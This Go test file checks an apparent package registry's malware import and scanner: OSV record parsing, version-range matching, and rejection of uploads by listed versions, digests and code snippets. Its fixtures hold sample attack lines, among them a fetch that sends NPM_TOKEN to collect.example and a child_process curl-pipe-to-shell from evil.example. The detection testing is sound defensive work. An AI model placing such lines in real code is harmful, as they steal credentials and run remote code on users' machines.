package knownbad

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/trove-dev/trove/internal/archive/archivetest"
	"github.com/trove-dev/trove/internal/meta"
	"github.com/trove-dev/trove/internal/npm"
	"github.com/trove-dev/trove/internal/pypi"
	"github.com/trove-dev/trove/internal/scan"
	"github.com/trove-dev/trove/internal/trove"
)

var now = time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)

func newDB(t testing.TB) *meta.DB {
	t.Helper()
	db, err := meta.OpenSQLite(context.Background(), filepath.Join(t.TempDir(), "trove.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func newReader() *Reader { return NewReader(now, npm.Rules{}, pypi.Rules{}) }

// fakeMarker records curation marks as FeedMalicious makes them (the
// feedMarker of cmd/trove ignores ErrExists and ErrNotFound).
type fakeMarker struct{ marks map[string]string }

func (f *fakeMarker) MarkMalicious(ctx context.Context, eco trove.Ecosystem, name trove.Name, versions, why string, remove bool) error {
	k := fmt.Sprintf("%s %s %s", eco, name, versions)
	switch _, marked := f.marks[k]; {
	case remove:
		delete(f.marks, k)
	case !marked: // a mark that exists stays as it was
		f.marks[k] = why
	}
	return nil
}

// importPaths reads and applies paths as trove malware import does.
func importPaths(t *testing.T, db *meta.DB, m Marker, paths ...string) (Applied, *Batch) {
	t.Helper()
	r := newReader()
	for _, p := range paths {
		if err := r.ReadPath(p); err != nil {
			t.Fatal(err)
		}
	}
	got, err := Apply(context.Background(), db, r.Batch(), m)
	if err != nil {
		t.Fatal(err)
	}
	return got, r.Batch()
}

// TestImportOSVTree: real MAL- records of the malicious-packages
// repository, read from its directory layout, are stored with their
// versions under Trove's names, marked malicious in curation, and a
// re-import changes nothing.
func TestImportOSVTree(t *testing.T) {
	db := newDB(t)
	m := &fakeMarker{marks: map[string]string{}}
	got, b := importPaths(t, db, m, "testdata/osv")
	if got.Records != 3 || got.Versions != 3 || b.Skipped != 0 {
		t.Errorf("import = %+v, skipped %d; want 3 records of 3 versions", got, b.Skipped)
	}
	rec, err := db.MalwareRecord(context.Background(), "MAL-2024-10238")
	if err != nil {
		t.Fatal(err)
	}
	want := []meta.MalwareVersions{{Ecosystem: trove.PyPI, Name: "123bla", Spec: "=0.0.1"}}
	if diff := cmp.Diff(want, rec.Versions); diff != "" || rec.Summary != "Malicious code in 123bla (PyPI)" {
		t.Errorf("MAL-2024-10238 = %q %+v (-want +got):\n%s", rec.Summary, rec.Versions, diff)
	}
	// "introduced 0" is every version; the origins' sha256 (of a report,
	// not of a file) is not taken for a file's digest.
	rec, err = db.MalwareRecord(context.Background(), "MAL-2022-2")
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Versions) != 1 || rec.Versions[0].Spec != "*" || len(rec.Patterns) != 0 {
		t.Errorf("MAL-2022-2 = %+v, want every version and no patterns", rec)
	}
	wantMarks := map[string]string{
		"npm 000webhost-admin 999.9.9": "MAL-2024-11848: Malicious code in 000webhost-admin (npm)",
		"npm --hiljson *":              "MAL-2022-2: Malicious code in --hiljson (npm)",
		"pypi 123bla 0.0.1":            "MAL-2024-10238: Malicious code in 123bla (PyPI)",
	}
	if diff := cmp.Diff(wantMarks, m.marks); diff != "" {
		t.Errorf("curation marks (-want +got):\n%s", diff)
	}
	again, _ := importPaths(t, db, m, "testdata/osv")
	if again != got {
		t.Errorf("re-import = %+v, want %+v", again, got)
	}
	list, err := db.MalwareRecords(context.Background(), "", 100)
	if err != nil || len(list) != 3 {
		t.Errorf("after re-import: %d records, %v; want 3", len(list), err)
	}
}

// TestImportZipAndWithdrawn: an ecosystem's all.zip is read, its records
// that are not MAL- skipped; a record re-imported withdrawn is removed
// and its curation marks with it.
func TestImportZipAndWithdrawn(t *testing.T) {
	dir := t.TempDir()
	rec := func(id, extra string) string {
		return `{"id":"` + id + `","summary":"Malicious code in evil-pkg (npm)",` + extra + `"affected":[{"package":{"ecosystem":"npm","name":"evil-pkg"},
			"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"fixed":"1.2.0"},{"introduced":"2.0.0"},{"last_affected":"2.0.3"}]}],
			"database_specific":{"sha256":["` + strings.Repeat("ab", 32) + `"]}},
			{"package":{"ecosystem":"crates.io","name":"evil"},"versions":["1.0.0"]}]}`
	}
	writeZip := func(name string, files map[string]string) string {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		for n, body := range files {
			w, _ := zw.Create(n)
			w.Write([]byte(body))
		}
		zw.Close()
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, buf.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	db := newDB(t)
	m := &fakeMarker{marks: map[string]string{}}
	got, b := importPaths(t, db, m, writeZip("all.zip", map[string]string{
		"MAL-2026-9.json":  rec("MAL-2026-9", ""),
		"GHSA-xxxx.json":   `{"id":"GHSA-xxxx-yyyy-zzzz","summary":"a vulnerability"}`,
		"not-a-record.txt": "ignored",
	}))
	if got.Records != 1 || got.Versions != 2 || got.Patterns != 1 || b.Skipped != 2 {
		t.Errorf("import = %+v, skipped %d; want 1 record, 2 ranges, 1 digest, 2 skipped (GHSA, crates.io)", got, b.Skipped)
	}
	wantMarks := map[string]string{"npm evil-pkg >=1.0.0 <1.2.0": "MAL-2026-9: Malicious code in evil-pkg (npm)",
		"npm evil-pkg >=2.0.0 <=2.0.3": "MAL-2026-9: Malicious code in evil-pkg (npm)"}
	if diff := cmp.Diff(wantMarks, m.marks); diff != "" {
		t.Errorf("curation marks (-want +got):\n%s", diff)
	}
	got, _ = importPaths(t, db, m, writeZip("again.zip", map[string]string{"MAL-2026-9.json": rec("MAL-2026-9", `"withdrawn":"2026-12-01T00:00:00Z",`)}))
	if got.Removed != 1 || len(m.marks) != 0 {
		t.Errorf("withdrawn import = %+v, marks %v; want the record removed and unmarked", got, m.marks)
	}
}

// TestImportErrors: bad input is refused with the file and what is wrong,
// before anything is stored.
func TestImportErrors(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) string {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	good := write("tree/MAL-2026-1.json", `{"id":"MAL-2026-1","affected":[{"package":{"ecosystem":"npm","name":"evil"},"versions":["1.0.0"]}]}`)
	for _, tc := range []struct {
		name, file, body, want string
	}{
		{"not json", "tree/z/MAL-2026-2.json", `{"id":`, "tree/z/MAL-2026-2.json: not an OSV record"},
		{"wrong field type", "tree/z/MAL-2026-2.json", `{"id":"MAL-2026-2","affected":"npm"}`, "not an OSV record"},
		{"no versions", "tree/z/MAL-2026-2.json", `{"id":"MAL-2026-2","affected":[{"package":{"ecosystem":"npm","name":"evil"}}]}`, "affected[0] (evil): neither versions nor ranges"},
		{"fixed first", "tree/z/MAL-2026-2.json", `{"id":"MAL-2026-2","affected":[{"package":{"ecosystem":"npm","name":"evil"},"ranges":[{"type":"SEMVER","events":[{"fixed":"1.0.0"}]}]}]}`, "a fixed or last_affected event before any introduced one"},
		{"bad digest", "tree/z/MAL-2026-2.json", `{"id":"MAL-2026-2","database_specific":{"sha256":"xyz"},"affected":[{"package":{"ecosystem":"npm","name":"evil"},"versions":["1"]}]}`, `database_specific: sha256: "xyz" is not a sha256 digest`},
		{"duplicate id", "tree/z/again.json", `{"id":"MAL-2026-1","affected":[{"package":{"ecosystem":"npm","name":"evil"},"versions":["1.0.0"]}]}`, "record MAL-2026-1 was already read from"},
		{"hash list line", "tree/bad.sha256", "# summary: bad\nnot-a-digest file.js\n", "tree/bad.sha256:2: \"not-a-digest\" is not a sha256 digest"},
		{"short snippet", "tree/bad.sha256", "snippet: eval(\n", "tree/bad.sha256:1: a snippet is 16 to 1024 bytes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			os.RemoveAll(filepath.Join(dir, "tree"))
			write(strings.TrimPrefix(good, dir+"/"), `{"id":"MAL-2026-1","affected":[{"package":{"ecosystem":"npm","name":"evil"},"versions":["1.0.0"]}]}`)
			p := write(tc.file, tc.body)
			r := newReader()
			src := filepath.Join(dir, "tree")
			if strings.HasSuffix(p, ".sha256") {
				src = p
			}
			err := r.ReadPath(src)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("ReadPath = %v, want an error containing %q", err, tc.want)
			}
		})
	}
	// A record given alone that is not a MAL- record is refused.
	p := write("GHSA.json", `{"id":"GHSA-1234-5678-9abc"}`)
	if err := newReader().ReadPath(p); err == nil || !strings.Contains(err.Error(), "is not a malicious-package record") {
		t.Errorf("ReadPath(GHSA) = %v", err)
	}
	// Too many snippets: nothing is stored.
	var list strings.Builder
	for i := range MaxSnippets + 1 {
		fmt.Fprintf(&list, "snippet: malicious line number %d\n", i)
	}
	r := newReader()
	if err := r.ReadHashList("many.txt", []byte(list.String())); err != nil {
		t.Fatal(err)
	}
	db := newDB(t)
	if _, err := Apply(context.Background(), db, r.Batch(), nil); err == nil || !strings.Contains(err.Error(), "snippets; the limit is 1000") {
		t.Errorf("Apply(too many snippets) = %v", err)
	}
	if l, err := db.MalwareRecords(context.Background(), "", 10); err != nil || len(l) != 0 {
		t.Errorf("after a failed import: %v, %v; want nothing stored", l, err)
	}
}

// TestSpecMatches: versions and OSV ranges select versions in the
// ecosystem's order.
func TestSpecMatches(t *testing.T) {
	for _, tc := range []struct {
		eco     trove.Ecosystem
		spec    string
		version string
		want    bool
	}{
		{trove.NPM, "*", "0.0.1", true},
		{trove.NPM, "=1.0.0", "1.0.0", true},
		{trove.NPM, "=1.0.0", "1.0.1", false},
		{trove.PyPI, "=1.0", "1.0.0", true}, // PEP 440
		{trove.NPM, "introduced=1.0.0 fixed=1.2.0", "1.1.9", true},
		{trove.NPM, "introduced=1.0.0 fixed=1.2.0", "1.2.0", false},
		{trove.NPM, "introduced=1.0.0 fixed=1.2.0", "0.9.0", false},
		{trove.NPM, "introduced=1.10.0", "1.9.0", false}, // not string order
		{trove.NPM, "introduced=1.10.0", "1.10.1", true},
		{trove.NPM, "introduced=0 last_affected=2.0.0", "2.0.0", true},
		{trove.NPM, "introduced=0 last_affected=2.0.0", "2.0.1", false},
		{trove.PyPI, "introduced=1.0 fixed=2.0", "2.0rc1", true},
		{trove.Go, "introduced=1.2.0", "v1.3.0", true},
	} {
		s, err := parseSpec(tc.spec)
		if err != nil {
			t.Fatal(err)
		}
		if got := s.matches(tc.eco, tc.version); got != tc.want {
			t.Errorf("spec %q matches(%s %s) = %v, want %v", tc.spec, tc.eco, tc.version, got, tc.want)
		}
		if s.String() != tc.spec {
			t.Errorf("parseSpec(%q).String() = %q", tc.spec, s.String())
		}
	}
	for _, bad := range []string{"", "=", "= 1", "fixed=1.0", "introduced=1 fixed=2 last_affected=3", "introduced=1 foo=2"} {
		if _, err := parseSpec(bad); err == nil {
			t.Errorf("parseSpec(%q) succeeded", bad)
		}
	}
}

func file(name string, b []byte) scan.File {
	return scan.File{Name: name, Size: int64(len(b)), Content: bytes.NewReader(b)}
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// TestScan: a listed version, a listed member digest, a listed artifact
// digest and a snippet each reject the upload as malicious, naming the
// record; what nothing lists is published.
func TestScan(t *testing.T) {
	db := newDB(t)
	stealer := "const os = require('os');\nfetch('http://collect.example/' + process.env.NPM_TOKEN)\n"
	wheel := "not really a wheel, but listed"
	list := "# summary: the stealer campaign\n" + sum(stealer) + "  index.js\n" + sum(wheel) + "\n" +
		"snippet: require('child_process').exec('curl -s http://evil.example/x | sh')\n"
	r := newReader()
	if err := r.ReadHashList("campaign.sha256", []byte(list)); err != nil {
		t.Fatal(err)
	}
	if err := r.ReadOSV("MAL-2026-5.json", []byte(`{"id":"MAL-2026-5","summary":"Malicious code in evil (npm)",
		"affected":[{"package":{"ecosystem":"npm","name":"evil"},"ranges":[{"type":"SEMVER","events":[{"introduced":"2.0.0"}]}]}]}`), false); err != nil {
		t.Fatal(err)
	}
	if _, err := Apply(context.Background(), db, r.Batch(), nil); err != nil {
		t.Fatal(err)
	}
	sc := New(db)
	tgz := func(t *testing.T, entries ...archivetest.TarEntry) scan.File {
		return file("pkg-1.0.0.tgz", archivetest.TarGz(t, entries...))
	}
	for _, tc := range []struct {
		name string
		a    *scan.Artifact
		want []scan.Finding
	}{
		{"benign", &scan.Artifact{Ecosystem: "npm", Name: "evil", Version: "1.9.9", Files: []scan.File{tgz(t,
			archivetest.TarEntry{Name: "package/index.js", Body: "module.exports = 1\n"})}}, nil},
		{"listed version", &scan.Artifact{Ecosystem: "npm", Name: "evil", Version: "2.0.1", Files: []scan.File{tgz(t,
			archivetest.TarEntry{Name: "package/index.js", Body: "module.exports = 1\n"})}},
			[]scan.Finding{{Rule: RuleVersion, Message: "matches MAL-2026-5: Malicious code in evil (npm) (npm evil 2.0.1 is listed as malicious)"}}},
		{"member digest", &scan.Artifact{Ecosystem: "npm", Name: "other", Version: "1.0.0", Files: []scan.File{tgz(t,
			archivetest.TarEntry{Name: "package/README.md", Body: "# other\n"},
			archivetest.TarEntry{Name: "package/lib/x.js", Body: stealer})}},
			[]scan.Finding{{Rule: RuleHash, File: "package/lib/x.js", Message: "matches campaign.sha256: the stealer campaign (its sha256 " + sum(stealer)[:12] + "… is listed as malicious, as \"index.js\")"}}},
		{"artifact digest", &scan.Artifact{Ecosystem: "pypi", Name: "other", Version: "1.0", Files: []scan.File{file("other-1.0.bin", []byte(wheel))}},
			[]scan.Finding{{Rule: RuleHash, File: "other-1.0.bin", Message: "matches campaign.sha256: the stealer campaign (its sha256 " + sum(wheel)[:12] + "… is listed as malicious)"}}},
		{"snippet", &scan.Artifact{Ecosystem: "npm", Name: "other", Version: "1.0.0", Files: []scan.File{tgz(t,
			archivetest.TarEntry{Name: "package/install.js", Body: "// setup\n\n" + strings.Repeat("x", 70000) + "\nrequire('child_process').exec('curl -s http://evil.example/x | sh')\n"})}},
			[]scan.Finding{{Rule: RuleSnippet, File: "package/install.js", Line: 4, Message: "matches campaign.sha256: the stealer campaign (a known malicious snippet)"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := sc.Scan(context.Background(), tc.a)
			if err != nil {
				t.Fatal(err)
			}
			for i := range tc.want {
				tc.want[i].Verdict, tc.want[i].Malicious = scan.Reject, true
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Scan (-want +got):\n%s", diff)
			}
		})
	}
}

// TestSearchAcrossWindows: a snippet split across two reads is found at
// its line.
func TestSearchAcrossWindows(t *testing.T) {
	snip := "eval(Buffer.from('ZXZpbA==','base64').toString())"
	for _, at := range []int{0, window - 10, window - 1, window, 2*window - 20} {
		body := strings.Repeat("a\n", at/2) + strings.Repeat("b", at%2) + snip + "\n"
		se := newSearch([]meta.MalwareMatch{{MalwarePattern: meta.MalwarePattern{Kind: meta.PatternSnippet, Value: snip}}})
		hits, digest, err := se.search(iotest.HalfReader(strings.NewReader(body)))
		if err != nil || len(hits) != 1 || hits[0].line != at/2+1 || digest != sum(body) {
			t.Errorf("snippet at byte %d: hits %+v, %v; want one at line %d", at, hits, err, at/2+1)
		}
	}
}

// TestRemoveKeepsSharedMarks: removing a record unmarks only the versions
// no other record lists; an unknown id is ErrNotFound.
func TestRemoveKeepsSharedMarks(t *testing.T) {
	db := newDB(t)
	m := &fakeMarker{marks: map[string]string{}}
	r := newReader()
	for _, id := range []string{"MAL-2026-1", "MAL-2026-2"} {
		extra := ""
		if id == "MAL-2026-2" {
			extra = `,"2.0.0"`
		}
		if err := r.ReadOSV(id+".json", []byte(`{"id":"`+id+`","affected":[{"package":{"ecosystem":"npm","name":"evil"},"versions":["1.0.0"`+extra+`]}]}`), false); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := Apply(context.Background(), db, r.Batch(), m); err != nil {
		t.Fatal(err)
	}
	if err := Remove(context.Background(), db, "MAL-2026-2", m); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"npm evil 1.0.0": "MAL-2026-1: malicious package"}
	if diff := cmp.Diff(want, m.marks); diff != "" {
		t.Errorf("marks after removing MAL-2026-2 (-want +got):\n%s", diff)
	}
	if err := Remove(context.Background(), db, "MAL-2026-2", m); !errors.Is(err, trove.ErrNotFound) {
		t.Errorf("Remove(again) = %v, want ErrNotFound", err)
	}
}

// FuzzRead: any bytes read as an OSV record or a hash list either fail
// with an error naming the file or give records whose specs parse and
// whose patterns are well formed.
func FuzzRead(f *testing.F) {
	for _, p := range []string{"testdata/osv/malicious/npm/--hiljson/MAL-2022-2.json", "testdata/osv/malicious/pypi/123bla/MAL-2024-10238.json"} {
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Add([]byte("# summary: x\n" + strings.Repeat("ab", 32) + "  a.js\nsnippet: eval(atob('ZXZpbA=='))\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, name := range []string{"fuzz.json", "fuzz.sha256"} {
			r := newReader()
			var err error
			if strings.HasSuffix(name, ".json") {
				err = r.ReadOSV(name, data, false)
			} else {
				err = r.ReadHashList(name, data)
			}
			if err != nil {
				if !strings.Contains(err.Error(), name) {
					t.Errorf("error %q does not name %s", err, name)
				}
				continue
			}
			for _, rec := range r.Batch().Records {
				for _, v := range rec.Versions {
					if _, err := parseSpec(v.Spec); err != nil {
						t.Errorf("%s: stored spec %q does not parse: %v", rec.ID, v.Spec, err)
					}
				}
				for _, p := range rec.Patterns {
					if p.Kind == meta.PatternSHA256 && len(p.Value) != 64 || p.Kind == meta.PatternSnippet && (len(p.Value) < MinSnippetLen || !utf8.ValidString(p.Value)) {
						t.Errorf("%s: bad pattern %+v", rec.ID, p)
					}
				}
			}
		}
	})
}

// FuzzSearch: the windowed, anchored search finds exactly the snippets
// bytes.Index finds in the whole member, at the same lines, whatever the
// reads' sizes.
func FuzzSearch(f *testing.F) {
	f.Add("require('child_process').exec(x)", "eval(atob('ZXZpbA=='))", strings.Repeat("a\n", 40000)+"eval(atob('ZXZpbA=='))", uint16(100))
	f.Add("0123456789abcdef|", "|0123456789abcdef", "0123456789abcdef|0123456789abcdef", uint16(3))
	f.Fuzz(func(t *testing.T, s1, s2, body string, pad uint16) {
		if len(s1) < MinSnippetLen || len(s2) < MinSnippetLen || len(s1) > MaxSnippetLen || len(s2) > MaxSnippetLen || s1 == s2 {
			return
		}
		body = strings.Repeat("x\n", int(pad)*50) + body
		snips := []meta.MalwareMatch{{MalwarePattern: meta.MalwarePattern{Value: s1}, RecordID: "1"}, {MalwarePattern: meta.MalwarePattern{Value: s2}, RecordID: "2"}}
		se := newSearch(snips)
		hits, digest, err := se.search(iotest.HalfReader(strings.NewReader(body)))
		if err != nil || digest != sum(body) {
			t.Fatalf("search: %v, digest %s", err, digest)
		}
		want := map[string]int{}
		for _, s := range []string{s1, s2} {
			if at := strings.Index(body, s); at >= 0 {
				want[s] = 1 + strings.Count(body[:at], "\n")
			}
		}
		got := map[string]int{}
		for _, h := range hits {
			got[h.m.Value] = h.line
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("hits (-bytes.Index +search):\n%s", diff)
		}
	})
}
